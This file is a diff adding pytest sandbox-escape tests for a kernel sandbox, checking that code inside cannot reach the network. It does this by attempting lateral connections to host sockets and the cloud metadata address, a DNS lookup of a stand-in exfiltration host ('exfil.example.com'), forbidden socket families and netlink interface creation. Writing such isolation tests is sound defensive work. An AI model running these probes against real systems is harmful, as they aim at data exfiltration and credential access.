@@ -1,0 +1,157 @@
+"""No network: nothing of the host's or of the world's answers, and nothing that is sent is heard."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import subprocess
+
+import pytest
+
+from kernel_sandbox import Session
+
+from .canaries import Canaries
+from .cells import ECONNREFUSED, ENETUNREACH, ENOENT, EPERM, ask, attack
+
+CALL = """
+def call(family, address):
+    "What a listener says, or the number of the error."
+    with socket.socket(family) as client:
+        client.settimeout(3)
+        try:
+            client.connect(address)
+            client.send(b"from the sandbox")
+            return client.recv(100).decode()
+        except OSError as exc:
+            return exc.errno or -1
+"""
+
+
+@attack("Lateral")
+@pytest.mark.parametrize("listener", ["tcp", "tcp6"])
+def test_loopback_of_the_host_is_another(target: Session, canaries: Canaries, listener: str) -> None:
+    family = socket.AF_INET6 if listener == "tcp6" else socket.AF_INET
+    address = canaries.tcp.get(listener, ("::1", 9))
+    said = ask(target, f"{CALL}\nanswer(call(FAMILY, tuple(ADDRESS)))", FAMILY=int(family), ADDRESS=address)
+    assert said in (ECONNREFUSED, ENETUNREACH, 99)  # EADDRNOTAVAIL: no ::1 inside
+    assert canaries.take_heard() == []
+
+
+@attack("Lateral")
+def test_abstract_socket_of_the_host_is_not_reached(target: Session, canaries: Canaries) -> None:
+    assert ask(target, f"{CALL}\nanswer(call(socket.AF_UNIX, chr(0) + NAME))", NAME=canaries.abstract) == ECONNREFUSED
+    assert canaries.take_heard() == []
+
+
+@attack("Lateral")
+def test_unix_socket_of_the_host_is_not_reached(target: Session, canaries: Canaries) -> None:
+    assert ask(target, f"{CALL}\nanswer(call(socket.AF_UNIX, PATH))", PATH=canaries.unix) == ENOENT
+    assert canaries.take_heard() == []
+
+
+@attack("Exfil")
+def test_datagrams_do_not_arrive(target: Session, canaries: Canaries) -> None:
+    send = """
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+    answer(error(sender.sendto, b"from the sandbox", tuple(ADDRESS)))
+"""
+    ask(target, send, ADDRESS=canaries.udp)
+    assert canaries.take_heard() == []
+
+
+def own_addresses() -> list[str]:
+    """The addresses of the host that its neighbours use."""
+    told = ""
+    with contextlib.suppress(OSError):
+        told = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False).stdout
+    return told.split()
+
+
+PLACES = {
+    "the metadata service": "169.254.169.254",
+    "the world": "192.0.2.1",
+    "the LAN": "10.0.0.1",
+    "the engine's bridge": "172.17.0.1",
+    "multicast": "224.0.0.251",
+    "IPv6": "2001:db8::1",
+    "link-local IPv6": "fe80::1",
+}
+
+
+@attack("Exfil")
+@pytest.mark.parametrize("place", PLACES)
+def test_address_is_unreachable(target: Session, place: str) -> None:
+    address = PLACES[place]
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    assert ask(target, f"{CALL}\nanswer(call(FAMILY, (ADDRESS, 80)))", FAMILY=int(family), ADDRESS=address) in (
+        ENETUNREACH,
+        22,  # EINVAL: a link-local address needs an interface
+        99,  # EADDRNOTAVAIL: no IPv6 inside
+    )
+
+
+@attack("Lateral")
+def test_addresses_of_the_host_are_unreachable(target: Session) -> None:
+    for address in own_addresses():
+        family = socket.AF_INET6 if ":" in address else socket.AF_INET
+        said = ask(target, f"{CALL}\nanswer(call(FAMILY, (ADDRESS, 22)))", FAMILY=int(family), ADDRESS=address)
+        assert said in (ENETUNREACH, 99)  # EADDRNOTAVAIL
+
+
+@attack("Exfil")
+def test_names_are_not_looked_up(target: Session) -> None:
+    look_up = """
+try: answer(socket.getaddrinfo(HOST, 80)[0][4])
+except OSError: answer([])
+"""
+    assert ask(target, look_up, HOST="a2V5.exfil.example.com") == []
+
+
+@attack("Exfil")
+def test_there_is_no_interface_but_loopback(target: Session) -> None:
+    assert ask(target, "answer(socket.if_nameindex())") == [[1, "lo"]]
+    assert ask(target, "answer(open('/proc/net/route').read().splitlines()[1:])") == []
+
+
+FAMILIES = {
+    "vsock": (40, 1, 0),
+    "packet": (17, 3, 768),
+    "raw": (2, 3, 1),
+    "alg": (38, 5, 0),
+    "xdp": (44, 3, 0),
+    "key": (15, 3, 2),
+    "can": (29, 3, 1),
+    "bluetooth": (31, 5, 0),
+    "tipc": (30, 1, 0),
+    "rds": (21, 5, 0),
+    "smc": (43, 1, 0),
+    "qrtr": (42, 2, 0),
+    "kernel events": (16, 3, 15),
+    "audit": (16, 3, 9),
+    "netfilter": (16, 3, 12),
+    "connector": (16, 3, 11),
+}
+
+
+@attack("Escape")
+@pytest.mark.parametrize("family", FAMILIES)
+def test_socket_family_is_refused(target: Session, family: str) -> None:
+    made = ask(target, "answer(error(lambda: socket.socket(*SHAPE).close()))", SHAPE=FAMILIES[family])
+    assert made == EPERM
+
+
+@attack("Exfil")
+def test_network_cannot_be_made(target: Session) -> None:
+    """No interface, no route, no address: netlink answers questions and takes no orders."""
+    order = """
+import struct
+def netlink(kind, flags, body):
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
+        link.bind((0, 0))
+        link.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
+        return -struct.unpack("=i", link.recv(4096)[16:20])[0]
+newlink = netlink(16, 0x605, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH", 8, 3) + b"vv0\\0")
+address = netlink(20, 0x605, struct.pack("=BBBBi", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, b"\\x0a\\0\\0\\2"))
+answer([newlink, address])
+"""
+    assert ask(target, order) == [EPERM, EPERM]
